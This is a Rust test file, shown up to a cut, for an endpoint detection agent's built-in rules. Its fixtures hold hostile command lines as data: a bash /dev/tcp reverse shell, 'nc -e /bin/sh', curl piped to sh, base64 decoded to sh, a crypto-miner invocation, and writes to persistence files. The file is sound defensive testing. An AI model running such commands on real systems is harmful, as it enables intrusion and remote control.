//! The built-in pack catches what each rule promises and stays quiet on an
//! ordinary workload.

use std::time::{Duration, SystemTime};

use collector_core::{
    BootId, ConnectionChange, ConnectionDirection, ConnectionState, FileOperation, FileType,
    FilesystemEvent, NetworkEvent, NetworkProtocol, PerformanceAnomaly, PerformanceAnomalyKind,
    PerformanceEvent, PerformanceMetric, PerformanceSubject, ProcessKey,
};
use collector_core::{ProcessEvent, ProcessEventType};
use daemoneye_agent::detect::Detector;
use daemoneye_agent::engine::{reads_performance, Batch, ProcessRow, RuleEngine, RuleKind};
use daemoneye_agent::files::FileEventRow;
use daemoneye_agent::network::ConnectionRow;
use daemoneye_agent::performance::PerformanceRow;
use daemoneye_agent::rules;

fn key(pid: u32) -> ProcessKey {
    ProcessKey::new(BootId::from_bytes([7; 16]), pid, 1)
}

fn row(pid: u32, name: &str, exe: &str, argv: &[&str]) -> ProcessRow {
    ProcessRow {
        process_key: Some(key(pid).to_string()),
        pid,
        ppid: Some(1),
        name: name.to_owned(),
        exe: Some(exe.to_owned()),
        argv: argv.iter().map(ToString::to_string).collect(),
        uid: Some(1000),
        euid: Some(1000),
        file_exists: true,
        accessible: true,
        exe_dir_user_writable: Some(false),
        parent_name: Some("bash".to_owned()),
        event_type: "exec".to_owned(),
        ..ProcessRow::default()
    }
}

/// A case of a rule over another table than `processes`: the batch, the
/// processes beside it, the rule it fires and the pid that rule names.
type Case<T> = (Vec<T>, Vec<ProcessRow>, &'static str, u32);

/// Each case fires its rule, naming its pid, and no other rule.
fn each_fires_only_its_rule<T: std::fmt::Debug>(
    cases: Vec<Case<T>>,
    fired: impl Fn(&[T], &[ProcessRow]) -> Vec<(String, u32)>,
) {
    for (batch, processes, id, pid) in cases {
        assert_eq!(
            fired(&batch, &processes),
            [(id.to_owned(), pid)],
            "{batch:?} {processes:?}"
        );
    }
}

/// The (rule, pid) pairs `judge` finds with the built-in pack, sorted.
fn fired_by(
    judge: impl FnOnce(&mut RuleEngine) -> Vec<daemoneye_agent::engine::Match>,
) -> Vec<(String, u32)> {
    let mut engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
    assert!(engine.refused().is_empty(), "{:?}", engine.refused());
    let mut m: Vec<_> = judge(&mut engine)
        .into_iter()
        .map(|m| (m.rule_id, m.pid))
        .collect();
    m.sort();
    m
}

fn fired(rows: &[ProcessRow]) -> Vec<(String, u32)> {
    fired_by(|e| e.evaluate(rows).unwrap())
}

/// The rules fired by a batch of performance `samples` beside `processes`.
fn fired_performance(samples: &[PerformanceEvent], processes: &[ProcessRow]) -> Vec<(String, u32)> {
    let samples: Vec<PerformanceRow> = samples.iter().map(PerformanceRow::new).collect();
    fired_by(|e| {
        e.evaluate_batch(Batch::Performance(&samples), processes)
            .unwrap()
    })
}

/// The rules fired by a batch of `connections` beside `processes`.
fn fired_network(connections: &[NetworkEvent], processes: &[ProcessRow]) -> Vec<(String, u32)> {
    let rows: Vec<ConnectionRow> = connections.iter().map(ConnectionRow::new).collect();
    fired_by(|e| e.evaluate_batch(Batch::Network(&rows), processes).unwrap())
}

/// `pid`'s socket on descriptor `fd`: `direction`, from `local` to
/// `remote` (`ip:port`; a listener's remote is ignored), just opened.
fn socket(
    pid: u32,
    fd: u32,
    direction: ConnectionDirection,
    local: &str,
    remote: &str,
) -> NetworkEvent {
    let local: std::net::SocketAddr = local.parse().unwrap();
    let remote: std::net::SocketAddr = remote.parse().unwrap();
    let listen = direction == ConnectionDirection::Listen;
    NetworkEvent {
        connection_id: u64::from(pid) * 100 + u64::from(fd),
        source_addr: Some(local.ip()),
        source_port: Some(local.port()),
        dest_addr: (!listen).then(|| remote.ip()),
        dest_port: (!listen).then(|| remote.port()),
        protocol: NetworkProtocol::Tcp,
        state: Some(if listen {
            ConnectionState::Listen
        } else {
            ConnectionState::Established
        }),
        direction: Some(direction),
        change: Some(ConnectionChange::Opened),
        pid: Some(pid),
        process_key: Some(key(pid)),
        fd: Some(fd),
        holders: Some(1),
        timestamp: SystemTime::now(),
        ..NetworkEvent::default()
    }
}

/// The network rules' cases: each a batch of connections and the
/// processes that hold them, and the one rule (and pid) it must fire.
fn network_cases() -> Vec<Case<NetworkEvent>> {
    use ConnectionDirection::{Inbound, Listen, Outbound};
    // `bash -i`, nothing suspicious in its arguments, its stdin a socket.
    let shell = row(70, "bash", "/usr/bin/bash", &["bash", "-i"]);
    // A python whose stdout (not stdin) is a connection a listener accepted.
    let bind = row(71, "python3.11", "/usr/bin/python3.11", &["python3"]);
    let dropper = row(72, "x", "/tmp/.x/x", &["./x"]);
    let backdoor = row(73, "svc", "/home/user/.local/svc", &["svc"]);
    let miner = row(74, "java", "/usr/bin/java", &["java", "-jar", "app.jar"]);
    vec![
        (
            vec![socket(70, 0, Outbound, "10.0.0.2:50000", "203.0.113.9:443")],
            vec![shell],
            "socket-stdio-shell",
            70,
        ),
        (
            vec![socket(71, 1, Inbound, "10.0.0.2:8080", "203.0.113.9:50001")],
            vec![bind],
            "socket-stdio-shell",
            71,
        ),
        (
            vec![socket(72, 3, Outbound, "10.0.0.2:50002", "203.0.113.9:443")],
            vec![dropper],
            "outbound-from-temp-dir",
            72,
        ),
        (
            vec![socket(73, 3, Listen, "0.0.0.0:31337", "0.0.0.0:0")],
            vec![backdoor],
            "listener-outside-system-paths",
            73,
        ),
        (
            vec![socket(
                74,
                5,
                Outbound,
                "10.0.0.2:50003",
                "198.51.100.7:3333",
            )],
            vec![miner],
            "mining-pool-port",
            74,
        ),
    ]
}

#[test]
fn every_network_rule_fires_on_its_case_and_only_there() {
    each_fires_only_its_rule(network_cases(), fired_network);
}

#[test]
fn ordinary_connections_raise_nothing() {
    use ConnectionDirection::{Inbound, Listen, Outbound};
    let mut sshd = row(80, "sshd", "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"]);
    sshd.uid = Some(0);
    // A shell whose stderr alone, or a descriptor past 2, is a socket; a
    // shell's socket once closed; curl and a browser out to 443.
    let bash = row(81, "bash", "/usr/bin/bash", &["-bash"]);
    let sh = row(82, "sh", "/usr/bin/dash", &["sh", "-c", "exec 3<>x"]);
    let curl = row(
        83,
        "curl",
        "/usr/bin/curl",
        &["curl", "https://example.com"],
    );
    // A test binary in /tmp talking to this host; a dev server under the
    // home directory listening on loopback only.
    let test = row(84, "t", "/tmp/build/t", &["./t"]);
    let dev = row(
        85,
        "node",
        "/home/user/.nvm/bin/node",
        &["node", "server.js"],
    );
    let mut closed = socket(81, 0, Outbound, "10.0.0.2:50010", "203.0.113.9:4444");
    closed.change = Some(ConnectionChange::Closed);
    let connections = vec![
        socket(80, 3, Listen, "0.0.0.0:22", "0.0.0.0:0"),
        socket(80, 4, Inbound, "10.0.0.2:22", "203.0.113.9:50020"),
        socket(81, 2, Outbound, "10.0.0.2:50011", "203.0.113.9:443"),
        socket(82, 3, Outbound, "10.0.0.2:50012", "203.0.113.9:443"),
        closed,
        socket(83, 5, Outbound, "10.0.0.2:50013", "93.184.216.34:443"),
        socket(84, 3, Outbound, "127.0.0.1:50014", "127.0.0.1:4444"),
        socket(85, 20, Listen, "127.0.0.1:3000", "0.0.0.0:0"),
    ];
    assert_eq!(
        fired_network(&connections, &[sshd, bash, sh, curl, test, dev]),
        Vec::<(String, u32)>::new()
    );
}

#[test]
fn network_rules_run_on_network_batches_only_and_need_their_holder() {
    let pack = rules::builtin().unwrap();
    let of_network = pack
        .iter()
        .filter(|r| RuleKind::of(&r.sql) == RuleKind::Network)
        .count();
    assert_eq!(of_network, 4);
    let mut engine = RuleEngine::new(pack.clone()).unwrap();
    let stats = engine.stats();
    let (connections, processes, _, _) = network_cases().remove(0);
    let rows: Vec<ConnectionRow> = connections.iter().map(ConnectionRow::new).collect();
    // Without the process that holds it, nothing to name.
    assert!(engine
        .evaluate_batch(Batch::Network(&rows), &[])
        .unwrap()
        .is_empty());
    assert_eq!(stats.rule_runs.get(), u64::try_from(of_network).unwrap());
    // With a process of another key under the same pid: not it.
    let mut other = processes[0].clone();
    other.process_key =
        Some(ProcessKey::new(BootId::from_bytes([7; 16]), other.pid, 2).to_string());
    assert!(engine
        .evaluate_batch(Batch::Network(&rows), &[other])
        .unwrap()
        .is_empty());
    assert_eq!(
        engine
            .evaluate_batch(Batch::Network(&rows), &processes)
            .unwrap()
            .len(),
        1
    );
}

/// The rules fired by a batch of file events beside `processes`.
fn fired_files(files: &[FilesystemEvent], processes: &[ProcessRow]) -> Vec<(String, u32)> {
    let rows: Vec<FileEventRow> = files.iter().map(FileEventRow::new).collect();
    let mut fired = fired_by(|e| e.evaluate_batch(Batch::Files(&rows), processes).unwrap());
    // One write is several operations (create, modify, close_write): one
    // alert once deduplicated.
    fired.dedup();
    fired
}

/// `pid` did `op` to the regular file `path`, now of `mode`.
fn file(pid: Option<u32>, op: FileOperation, path: &str, mode: u32) -> FilesystemEvent {
    FilesystemEvent {
        pid,
        process_key: pid.map(key),
        file_type: Some(FileType::Regular),
        permissions: Some(mode),
        previous_permissions: Some(mode),
        ..FilesystemEvent::new(path, op, SystemTime::now())
    }
}

/// `pid` created and wrote `path` (one merged record's operations).
fn written(pid: Option<u32>, path: &str) -> Vec<FilesystemEvent> {
    [
        FileOperation::Create,
        FileOperation::Modify,
        FileOperation::CloseWrite,
    ]
    .into_iter()
    .map(|op| FilesystemEvent {
        previous_permissions: None,
        ..file(pid, op, path, 0o644)
    })
    .collect()
}

/// `pid` renamed `from` over `to`.
fn moved(pid: u32, from: &str, to: &str) -> FilesystemEvent {
    FilesystemEvent {
        old_path: Some(from.to_owned()),
        ..file(Some(pid), FileOperation::Rename, to, 0o755)
    }
}

/// `pid` changed the mode of `path` from `before` to `after`.
fn chmod(pid: u32, path: &str, before: u32, after: u32) -> FilesystemEvent {
    FilesystemEvent {
        previous_permissions: Some(before),
        ..file(Some(pid), FileOperation::Attrib, path, after)
    }
}

/// The file rules' cases: each a batch of file events and the processes
/// that made them, and the one rule (and pid) it must fire.
fn file_cases() -> Vec<Case<FilesystemEvent>> {
    let bash = |pid| row(pid, "bash", "/usr/bin/bash", &["bash"]);
    let persistence = [
        (90, "/etc/cron.d/0anacron-update"),
        (91, "/var/spool/cron/crontabs/root"),
        (92, "/etc/systemd/system/dbus-helper.service"),
        (93, "/root/.ssh/authorized_keys"),
        (94, "/home/user/.ssh/authorized_keys2"),
        (95, "/etc/ld.so.preload"),
    ];
    let mut cases: Vec<_> = persistence
        .into_iter()
        .map(|(pid, path)| {
            (
                written(Some(pid), path),
                vec![bash(pid)],
                "persistence-file-written",
                pid,
            )
        })
        .collect();
    cases.extend([
        // Its process unknown (a rescan found it): the host.
        (
            written(None, "/etc/crontab"),
            Vec::new(),
            "persistence-file-written",
            0,
        ),
        (
            vec![moved(96, "/tmp/.x/sshd", "/usr/sbin/sshd")],
            vec![row(
                96,
                "mv",
                "/usr/bin/mv",
                &["mv", "/tmp/.x/sshd", "/usr/sbin/sshd"],
            )],
            "system-binary-written",
            96,
        ),
        (
            written(Some(97), "/usr/local/bin/kworker"),
            vec![row(
                97,
                "curl",
                "/usr/bin/curl",
                &["curl", "-o", "/usr/local/bin/kworker"],
            )],
            "system-binary-written",
            97,
        ),
        (
            vec![chmod(98, "/var/tmp/.cache/sh", 0o755, 0o4755)],
            vec![row(
                98,
                "chmod",
                "/usr/bin/chmod",
                &["chmod", "u+s", "/var/tmp/.cache/sh"],
            )],
            "setuid-file-made",
            98,
        ),
        (
            vec![chmod(99, "/home/user/bin/tool", 0o755, 0o2755)],
            vec![row(99, "python3", "/usr/bin/python3", &["python3", "x.py"])],
            "setuid-file-made",
            99,
        ),
        (
            written(Some(88), "/etc/passwd"),
            vec![row(
                88,
                "python3",
                "/usr/bin/python3",
                &["python3", "-c", "..."],
            )],
            "account-database-changed",
            88,
        ),
        (
            vec![moved(89, "/etc/shadow.tmp", "/etc/shadow")],
            vec![row(
                89,
                "sed",
                "/usr/bin/sed",
                &["sed", "-i", "s/x/y/", "/etc/shadow"],
            )],
            "account-database-changed",
            89,
        ),
    ]);
    cases.extend(start_up_file_cases());
    cases
}

/// The cases of the sudoers and shell start-up file rules (see
/// [`file_cases`]).
fn start_up_file_cases() -> Vec<Case<FilesystemEvent>> {
    let bash = |pid| row(pid, "bash", "/usr/bin/bash", &["bash"]);
    vec![
        (
            written(Some(80), "/etc/sudoers.d/90-cloud"),
            vec![bash(80)],
            "sudoers-changed",
            80,
        ),
        (
            vec![moved(81, "/tmp/sudoers", "/etc/sudoers")],
            vec![row(
                81,
                "mv",
                "/usr/bin/mv",
                &["mv", "/tmp/sudoers", "/etc/sudoers"],
            )],
            "sudoers-changed",
            81,
        ),
        (
            written(Some(82), "/etc/profile.d/zz-update.sh"),
            vec![row(
                82,
                "python3",
                "/usr/bin/python3",
                &["python3", "-c", "..."],
            )],
            "shell-profile-written",
            82,
        ),
        (
            written(Some(83), "/root/.bashrc"),
            vec![bash(83)],
            "shell-profile-written",
            83,
        ),
        (
            written(Some(84), "/home/user/.profile"),
            vec![bash(84)],
            "shell-profile-written",
            84,
        ),
        (
            written(Some(85), "/etc/bash.bashrc"),
            vec![bash(85)],
            "shell-profile-written",
            85,
        ),
    ]
}

#[test]
fn every_file_rule_fires_on_its_case_and_only_there() {
    each_fires_only_its_rule(file_cases(), fired_files);
}

#[test]
fn package_managers_and_the_usual_tools_writing_the_same_files_raise_nothing() {
    let dpkg = row(110, "dpkg", "/usr/bin/dpkg", &["dpkg", "-i", "x.deb"]);
    let dnf = row(
        111,
        "dnf",
        "/usr/bin/python3.12",
        &["/usr/bin/dnf", "upgrade"],
    );
    let useradd = row(112, "useradd", "/usr/sbin/useradd", &["useradd", "bob"]);
    let passwd = row(113, "passwd", "/usr/bin/passwd", &["passwd", "bob"]);
    let vipw = row(114, "vipw", "/usr/sbin/vipw", &["vipw"]);
    let touch = row(115, "touch", "/usr/bin/touch", &["touch", "/usr/bin/sudo"]);
    let vim = row(116, "vim", "/usr/bin/vim", &["vim", "/etc/hosts"]);
    let systemd = row(1, "systemd", "/usr/lib/systemd/systemd", &["/sbin/init"]);
    let mut files = Vec::new();
    for path in [
        "/etc/cron.daily/logrotate",
        "/usr/lib/systemd/system/ssh.service",
        "/usr/bin/sudo",
        "/etc/passwd",
        "/etc/ld.so.preload",
    ] {
        files.extend(written(Some(110), path));
    }
    files.push(moved(111, "/usr/sbin/sshd;67a1", "/usr/sbin/sshd"));
    files.push(chmod(110, "/usr/bin/sudo", 0o755, 0o4755));
    files.push(moved(112, "/etc/passwd+", "/etc/passwd"));
    files.push(moved(112, "/etc/shadow+", "/etc/shadow"));
    files.push(moved(113, "/etc/nshadow", "/etc/shadow"));
    files.push(moved(114, "/etc/passwd.edit", "/etc/passwd"));
    // Touched: an attribute change of a file setuid before and after.
    files.push(chmod(115, "/usr/bin/sudo", 0o4755, 0o4755));
    files.extend(written(Some(116), "/etc/hosts"));
    // visudo's edit: a temporary file beside sudoers, renamed into place;
    // a package's sudoers.d and profile.d files.
    let visudo = row(117, "visudo", "/usr/sbin/visudo", &["visudo"]);
    files.extend(written(Some(117), "/etc/sudoers.tmp"));
    files.push(moved(117, "/etc/sudoers.tmp", "/etc/sudoers"));
    files.extend(written(Some(110), "/etc/sudoers.d/README"));
    files.extend(written(Some(110), "/etc/profile.d/bash_completion.sh"));
    files.extend(written(Some(110), "/etc/bash.bashrc"));
    // A `.bashrc` deeper than a home's own is no shell's start-up file; a
    // file beside sudoers is not sudoers.
    files.extend(written(Some(116), "/home/user/src/dotfiles/.bashrc"));
    files.extend(written(Some(116), "/etc/sudoers.bak"));
    // A unit enabled through systemd (on a package's behalf): a symlink.
    files.push(FilesystemEvent {
        file_type: Some(FileType::Symlink),
        ..file(
            Some(1),
            FileOperation::Create,
            "/etc/systemd/system/multi-user.target.wants/ssh.service",
            0o777,
        )
    });
    // A directory made in a unit directory is not a unit.
    files.push(FilesystemEvent {
        file_type: Some(FileType::Directory),
        ..file(
            Some(116),
            FileOperation::Create,
            "/etc/systemd/system/x.d",
            0o755,
        )
    });
    assert_eq!(
        fired_files(
            &files,
            &[dpkg, dnf, useradd, passwd, vipw, touch, vim, systemd, visudo]
        ),
        Vec::<(String, u32)>::new()
    );
}

#[test]
fn a_maintainer_script_of_a_package_manager_is_benign_and_a_shell_of_sshd_is_not() {
    use ProcessEventType::Exec;
    let engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
    let mut d = Detector::new(engine, Duration::from_secs(60));
    // apt runs dpkg, which runs a postinst (`sh`), which writes a unit;
    // sshd's session shell writes the same.
    let tree = [
        event(
            Exec,
            120,
            1,
            "apt",
            "/usr/bin/apt",
            &["apt", "install", "x"],
        ),
        event(
            Exec,
            121,
            120,
            "dpkg",
            "/usr/bin/dpkg",
            &["dpkg", "--configure", "x"],
        ),
        event(
            Exec,
            122,
            121,
            "sh",
            "/usr/bin/dash",
            &["/bin/sh", "/var/lib/dpkg/info/x.postinst"],
        ),
        event(
            Exec,
            123,
            1,
            "sshd",
            "/usr/sbin/sshd",
            &["sshd: root@pts/0"],
        ),
        event(Exec, 124, 123, "bash", "/usr/bin/bash", &["-bash"]),
    ];
    assert!(d.on_events(&tree).unwrap().is_empty());
    let mut files = written(Some(122), "/etc/systemd/system/x.service");
    files.extend(written(Some(124), "/etc/systemd/system/x.service"));
    let fired: Vec<(String, u32)> = d
        .on_files(&files)
        .unwrap()
        .into_iter()
        .map(|a| (a.rule_id, a.process.pid))
        .collect();
    assert_eq!(fired, [("persistence-file-written".to_owned(), 124)]);
}

/// A sustained-CPU anomaly of `pid`.
fn busy(pid: u32) -> PerformanceEvent {
    PerformanceEvent::new(
        PerformanceMetric::ProcessCpu,
        99.0,
        PerformanceSubject::Process {
            pid,
            process_key: Some(key(pid)),
        },
        SystemTime::now(),
    )
    .with_anomaly(PerformanceAnomaly {
        kind: PerformanceAnomalyKind::SustainedCpu,
        threshold: 90.0,
        duration: Duration::from_secs(60),
    })
}

/// The host's fork rate, judged an anomaly or not.
fn forks(rate: f64, anomaly: bool) -> PerformanceEvent {
    let e = PerformanceEvent::new(
        PerformanceMetric::ForkRate,
        rate,
        PerformanceSubject::Host,
        SystemTime::now(),
    );
    if anomaly {
        e.with_anomaly(PerformanceAnomaly {
            kind: PerformanceAnomalyKind::ForkRate,
            threshold: 500.0,
            duration: Duration::from_secs(10),
        })
    } else {
        e
    }
}

/// The performance rules' cases: each a batch of samples and the processes
/// they name, and the one rule (and pid) it must fire.
fn performance_cases() -> Vec<Case<PerformanceEvent>> {
    // A busy process is not enough: only with its binary or arguments.
    let tmp = row(
        50,
        "sh",
        "/tmp/.x1/sh",
        &["sh", "-c", "while :; do :; done"],
    );
    let hidden = row(51, "kworker", "/usr/lib/.cache/kworker", &["kworker"]);
    let miner = row(
        52,
        "java",
        "/usr/bin/java",
        &["java", "-o", "pool:3333", "--donate-level", "1"],
    );
    let mut cases: Vec<_> = [tmp, hidden, miner]
        .into_iter()
        .map(|r| {
            let pid = r.pid;
            (
                vec![busy(pid)],
                vec![r],
                "sustained-cpu-suspicious-binary",
                pid,
            )
        })
        .collect();
    cases.push((vec![forks(2_000.0, true)], Vec::new(), "fork-bomb", 0));
    cases
}

#[test]
fn every_performance_rule_fires_on_its_case_and_only_there() {
    each_fires_only_its_rule(performance_cases(), fired_performance);
}

#[test]
fn performance_rules_run_on_performance_batches_only() {
    let pack = rules::builtin().unwrap();
    let of = |kind| pack.iter().filter(|r| RuleKind::of(&r.sql) == kind).count();
    let of_performance = pack.iter().filter(|r| reads_performance(&r.sql)).count();
    assert_eq!((of_performance, of(RuleKind::Performance)), (2, 2));
    let of_process = of(RuleKind::Process);
    let mut engine = RuleEngine::new(pack.clone()).unwrap();
    let stats = engine.stats();
    engine
        .evaluate(&[row(1, "x", "/usr/bin/x", &["x"])])
        .unwrap();
    assert_eq!(stats.rule_runs.get(), u64::try_from(of_process).unwrap());
    let samples = [PerformanceRow::new(&forks(1.0, false))];
    engine
        .evaluate_batch(Batch::Performance(&samples), &[])
        .unwrap();
    assert_eq!(
        stats.rule_runs.get(),
        u64::try_from(of_process + of_performance).unwrap()
    );
}

#[test]
fn ordinary_performance_raises_nothing() {
    // A compiler from a toolchain under a dot directory, busy for minutes;
    // a busy process in /tmp whose CPU is a sample, not an anomaly; an
    // ordinary fork rate.
    let cargo = row(
        60,
        "rustc",
        "/root/.rustup/toolchains/stable/bin/rustc",
        &["rustc"],
    );
    let tmp = row(61, "a.out", "/tmp/build/a.out", &["./a.out"]);
    let mut sample = busy(61);
    sample.anomaly = None;
    let samples = vec![busy(60), sample, forks(40.0, false)];
    assert_eq!(
        fired_performance(&samples, &[cargo, tmp]),
        Vec::<(String, u32)>::new()
    );
}

#[test]
#[allow(clippy::too_many_lines)] // one list of cases
fn every_builtin_rule_fires_on_its_case_and_only_there() {
    let mut deleted = row(10, "payload", "/usr/local/bin/payload", &["payload"]);
    deleted.exe_deleted = true;
    deleted.file_exists = false;
    let mut shell_from_web = row(15, "sh", "/usr/bin/dash", &["sh", "-c", "id"]);
    shell_from_web.parent_name = Some("nginx".to_owned());
    let mut reused = row(18, "cron", "/usr/sbin/cron", &["cron"]);
    reused.event_type = "pid_reused".to_owned();
    let mut planted = row(19, "helper", "/opt/tools/helper", &["helper"]);
    planted.uid = Some(0);
    planted.exe_dir_user_writable = Some(true);
    let mut memfd = row(21, "x", "/memfd:x (deleted)", &["x"]);
    memfd.exe_deleted = true;
    memfd.file_exists = false;
    let cases = vec![
        (deleted, "deleted-executable"),
        (memfd, "exec-from-memfd"),
        (
            row(22, "sleep", "/usr/bin/sleep", &["[kworker/0:7]", "600"]),
            "kernel-thread-name-on-user-process",
        ),
        (
            row(23, "sleep", "/usr/bin/sleep", &["cron", "-f"]),
            "argv0-masquerade",
        ),
        (row(11, "x", "/dev/shm/x", &["./x"]), "exec-from-temp-dir"),
        (
            row(
                12,
                "bash",
                "/usr/bin/bash",
                &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
            ),
            "reverse-shell",
        ),
        (
            row(
                13,
                "nc",
                "/usr/bin/nc.traditional",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            ),
            "reverse-shell",
        ),
        (
            row(
                14,
                "xmrig",
                "/usr/local/bin/xmrig",
                &["xmrig", "-o", "stratum+tcp://pool:3333"],
            ),
            "crypto-miner",
        ),
        (shell_from_web, "service-spawned-shell"),
        (
            row(
                16,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "echo aWQ= | base64 -d | sh"],
            ),
            "base64-decode-to-shell",
        ),
        (
            row(17, ".hidden", "/usr/lib/.cache/.hidden", &[".hidden"]),
            "hidden-executable",
        ),
        (reused, "pid-reuse"),
        (planted, "root-from-user-writable-dir"),
        (
            row(
                20,
                "sh",
                "/usr/bin/dash",
                &["sh", "-c", "curl -fsSL http://x/i.sh | sh"],
            ),
            "download-piped-to-shell",
        ),
    ];
    let rows: Vec<ProcessRow> = cases.iter().map(|(r, _)| r.clone()).collect();
    let got = fired(&rows);
    let mut want: Vec<(String, u32)> = cases
        .iter()
        .map(|(r, id)| ((*id).to_owned(), r.pid))
        .collect();
    want.sort();
    assert_eq!(got, want);
    // Every built-in rule is covered by a case above, or by a history,
    // performance or network case (and is a rule of that kind exactly then).
    let performance = performance_cases();
    let network = network_cases();
    let files = file_cases();
    let history = history_cases();
    for rule in rules::builtin().unwrap() {
        let covered = match RuleKind::of(&rule.sql) {
            RuleKind::Network => network.iter().any(|(_, _, id, _)| *id == rule.id),
            RuleKind::Performance => performance.iter().any(|(_, _, id, _)| *id == rule.id),
            RuleKind::File => files.iter().any(|(_, _, id, _)| *id == rule.id),
            _ => {
                assert!(!reads_performance(&rule.sql));
                want.iter().any(|(id, _)| *id == rule.id)
                    || history
                        .iter()
                        .any(|(_, fired)| fired.iter().any(|(id, _)| *id == rule.id))
            }
        };
        assert!(covered, "no case for {}", rule.id);
    }
}

#[test]
fn an_ordinary_workload_raises_nothing() {
    let mut nginx_worker = row(30, "nginx", "/usr/sbin/nginx", &["nginx: worker process"]);
    nginx_worker.parent_name = Some("nginx".to_owned());
    let mut root_daemon = row(31, "sshd", "/usr/sbin/sshd", &["sshd: /usr/sbin/sshd -D"]);
    root_daemon.uid = Some(0);
    let mut exited_tmp = row(32, "a.out", "/tmp/build/a.out", &["./a.out"]);
    exited_tmp.event_type = "exit".to_owned();
    let rows = vec![
        nginx_worker,
        root_daemon,
        exited_tmp,
        row(
            33,
            "cc1",
            "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
            &["/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "-quiet", "hello.c"],
        ),
        row(
            34,
            "cargo",
            "/root/.cargo/bin/cargo",
            &["cargo", "build", "--release"],
        ),
        row(
            35,
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "cat /etc/hosts | sort | uniq"],
        ),
        row(
            36,
            "curl",
            "/usr/bin/curl",
            &["curl", "-s", "https://api.example.com/v1", "-o", "out.json"],
        ),
        row(
            37,
            "sh",
            "/usr/bin/dash",
            &["sh", "-c", "curl -s https://api | jq .sha"],
        ),
        row(
            38,
            "python3",
            "/usr/bin/python3.11",
            &["python3", "-m", "http.server"],
        ),
        row(
            39,
            "ls",
            "/usr/bin/ls",
            &["ls", "-la", "/home/user/.config"],
        ),
        row(40, "git", "/usr/bin/git", &["git", "status"]),
        row(41, "bash", "/usr/bin/bash", &["-bash"]),
    ];
    assert_eq!(fired(&rows), Vec::<(String, u32)>::new());
}

/// A process event of `pid` (child of `ppid`) of type `ty`.
fn event(
    ty: ProcessEventType,
    pid: u32,
    ppid: u32,
    name: &str,
    exe: &str,
    argv: &[&str],
) -> ProcessEvent {
    let mut e = ProcessEvent::new(pid, name);
    e.event_type = ty;
    e.ppid = Some(ppid);
    e.executable_path = Some(exe.to_owned());
    e.command_line = argv.iter().map(ToString::to_string).collect();
    e.process_key = Some(key(pid));
    e.user_id = Some(1000);
    e.euid = Some(1000);
    e.accessible = true;
    e.file_exists = true;
    e
}

/// The (rule, pid) pairs a detector with the built-in pack raises over
/// `batches`, in turn, sorted.
fn fired_through_detector(batches: &[Vec<ProcessEvent>]) -> Vec<(String, u32)> {
    let engine = RuleEngine::new(rules::builtin().unwrap()).unwrap();
    let mut d = Detector::new(engine, Duration::from_secs(60));
    let mut fired: Vec<(String, u32)> = Vec::new();
    for batch in batches {
        for a in d.on_events(batch).unwrap() {
            fired.push((a.rule_id, a.process.pid));
        }
    }
    fired.sort();
    fired
}

/// Batches of events through the detector, and every (rule, pid) they raise.
type HistoryCase = (Vec<Vec<ProcessEvent>>, Vec<(&'static str, u32)>);

/// The cases of the rules over the history: each batches of events
/// through the detector, and every (rule, pid) they must raise.
#[allow(clippy::too_many_lines)] // one list of cases
fn history_cases() -> Vec<HistoryCase> {
    use ProcessEventType::{Exec, Exit, Fork, Snapshot};
    vec![
        // nginx's worker execs a shell in place: its parent is the
        // container's shim, its previous image nginx.
        (
            vec![
                vec![
                    event(
                        Snapshot,
                        100,
                        1,
                        "containerd-shim",
                        "/usr/bin/containerd-shim-runc-v2",
                        &["/usr/bin/containerd-shim-runc-v2"],
                    ),
                    event(
                        Snapshot,
                        101,
                        100,
                        "nginx",
                        "/usr/sbin/nginx",
                        &["nginx: worker process"],
                    ),
                ],
                vec![event(
                    Exec,
                    101,
                    100,
                    "sh",
                    "/usr/bin/dash",
                    &["sh", "-c", "id"],
                )],
            ],
            vec![("shell-with-service-in-history", 101)],
        ),
        // postgres > sh -c (the parent rule's) > bash, judged after the sh
        // exited: the database is the grandparent.
        (
            vec![
                vec![event(
                    Snapshot,
                    110,
                    1,
                    "postgres",
                    "/usr/lib/postgresql/15/bin/postgres",
                    &["postgres"],
                )],
                vec![
                    event(
                        Fork,
                        111,
                        110,
                        "postgres",
                        "/usr/lib/postgresql/15/bin/postgres",
                        &["postgres"],
                    ),
                    event(
                        Exec,
                        111,
                        110,
                        "sh",
                        "/usr/bin/dash",
                        &["sh", "-c", "bash -i"],
                    ),
                ],
                vec![
                    event(
                        Fork,
                        112,
                        111,
                        "sh",
                        "/usr/bin/dash",
                        &["sh", "-c", "bash -i"],
                    ),
                    event(
                        Exit,
                        111,
                        110,
                        "sh",
                        "/usr/bin/dash",
                        &["sh", "-c", "bash -i"],
                    ),
                ],
                vec![event(
                    Exec,
                    112,
                    1,
                    "bash",
                    "/usr/bin/bash",
                    &["bash", "-i"],
                )],
            ],
            // The sh's live parent is the database: that rule's alone.
            vec![
                ("service-spawned-shell", 111),
                ("shell-with-service-in-history", 112),
            ],
        ),
        // `curl ... | sh` typed at a prompt: the pipeline is in no command
        // line; curl is the sh's sibling.
        (
            vec![
                vec![event(Snapshot, 120, 1, "bash", "/usr/bin/bash", &["-bash"])],
                vec![
                    event(Fork, 121, 120, "bash", "/usr/bin/bash", &["-bash"]),
                    event(Fork, 122, 120, "bash", "/usr/bin/bash", &["-bash"]),
                    event(
                        Exec,
                        121,
                        120,
                        "curl",
                        "/usr/bin/curl",
                        &["curl", "-fsSL", "http://203.0.113.9/i.sh"],
                    ),
                    event(Exec, 122, 120, "sh", "/usr/bin/dash", &["sh"]),
                ],
            ],
            vec![("stdin-shell-fed-download-or-decode", 122)],
        ),
        // `bash -c 'echo ... | base64 -d | sh'`: the parent's command line
        // (its own rule's) holds the pipeline.
        (
            vec![
                vec![event(
                    Snapshot,
                    130,
                    1,
                    "bash",
                    "/usr/bin/bash",
                    &["bash", "-c", "echo aWQ= | base64 -d | sh"],
                )],
                vec![
                    event(
                        Fork,
                        131,
                        130,
                        "bash",
                        "/usr/bin/bash",
                        &["bash", "-c", "echo aWQ= | base64 -d | sh"],
                    ),
                    event(Exec, 131, 130, "sh", "/usr/bin/dash", &["sh"]),
